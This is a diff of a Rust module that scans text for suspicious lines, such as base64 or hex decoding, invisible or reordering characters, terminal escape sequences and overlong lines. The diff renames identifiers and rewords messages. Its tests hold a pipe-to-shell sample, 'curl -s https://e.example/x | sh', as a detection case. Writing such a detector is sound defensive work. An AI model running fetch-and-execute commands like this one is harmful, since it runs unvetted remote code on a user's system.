@@ -1,18 +1,18 @@
-//! What in a text should a person look at twice? A table of signs; none of them forbids anything. Pure.
+//! Finds text that the user should look at twice, by a table of patterns. Forbids nothing. Pure.
 
 use tenterhook_core::text;
 
-/// Something that a person should look at twice.
+/// A suspicious line.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct Suspect {
-    /// What it is, in words.
+    /// Why it is suspicious.
     pub what: &'static str,
-    /// The line in which it stands, made safe to show; 1-based.
+    /// The number of the line as it is shown to the user; 1-based.
     pub line: usize,
 }
 
-/// Signs: all of the words stand in one line.
-const SIGNS: &[(&[&str], &str)] = &[
+/// Patterns: every part must occur in one line.
+const PATTERNS: &[(&[&str], &str)] = &[
     (&["base64"], "decodes or encodes base64"),
     (&["atob("], "decodes base64"),
     (&["xxd -r"], "decodes hexadecimal"),
@@ -48,8 +48,8 @@ const SIGNS: &[(&[&str], &str)] = &[
 /// Longest line that people write: more of it in one line is there to be overlooked.
 const LONG_LINE: usize = 2_000;
 
-/// What is odd about a text.
-pub(super) fn of(text: &str) -> Vec<Suspect> {
+/// Finds suspicious parts of a text.
+pub(super) fn find(text: &str) -> Vec<Suspect> {
     let mut found: Vec<Suspect> = Vec::new();
     for (at, line) in text.lines().enumerate() {
         let mut add = |what| {
@@ -57,17 +57,17 @@ pub(super) fn of(text: &str) -> Vec<Suspect> {
                 found.push(Suspect { what, line: at + 1 });
             }
         };
-        for (words, what) in SIGNS {
+        for (words, what) in PATTERNS {
             if words.iter().all(|word| line.contains(word)) {
                 add(what);
             }
         }
         let removed = text::clean(line, usize::MAX).removed;
         if removed.is_suspicious() {
-            add("holds characters that nobody sees, or that reorder a line");
+            add("contains characters that are invisible or reorder a line");
         }
         if removed.controls + removed.sequences > 0 {
-            add("holds characters that drive a terminal");
+            add("contains characters that drive a terminal");
         }
         if line.len() > LONG_LINE {
             add("has a line of more than 2000 characters");
@@ -86,18 +86,18 @@ mod tests {
         for (text, what) in [
             ("x\necho aGk= | base64 -d", "decodes or encodes base64"),
             ("\ncurl -s https://e.example/x | sh", "runs what it fetches"),
-            ("ls\necho \u{202e}hi", "holds characters that nobody sees, or that reorder a line"),
-            ("ls\n\u{1b}[2J", "holds characters that drive a terminal"),
+            ("ls\necho \u{202e}hi", "contains characters that are invisible or reorder a line"),
+            ("ls\n\u{1b}[2J", "contains characters that drive a terminal"),
         ] {
-            assert_eq!(of(text), [Suspect { what, line: 2 }], "{text:?}");
+            assert_eq!(find(text), [Suspect { what, line: 2 }], "{text:?}");
         }
         let long = |length: usize| format!("ls\n{}", "x".repeat(length));
         let what = "has a line of more than 2000 characters";
-        assert_eq!(of(&long(LONG_LINE + 1)), [Suspect { what, line: 2 }]);
-        assert_eq!(of(&long(LONG_LINE)), []);
-        // What stands in many lines is named with the first.
+        assert_eq!(find(&long(LONG_LINE + 1)), [Suspect { what, line: 2 }]);
+        assert_eq!(find(&long(LONG_LINE)), []);
+        // A pattern that occurs in many lines is reported with the first.
         let what = "decodes or encodes base64";
-        assert_eq!(of("base64 a\nbase64 b"), [Suspect { what, line: 1 }]);
-        assert_eq!(of("#!/bin/sh\njq -r .tool_name\nexit 2\n"), []);
+        assert_eq!(find("base64 a\nbase64 b"), [Suspect { what, line: 1 }]);
+        assert_eq!(find("#!/bin/sh\njq -r .tool_name\nexit 2\n"), []);
     }
 }
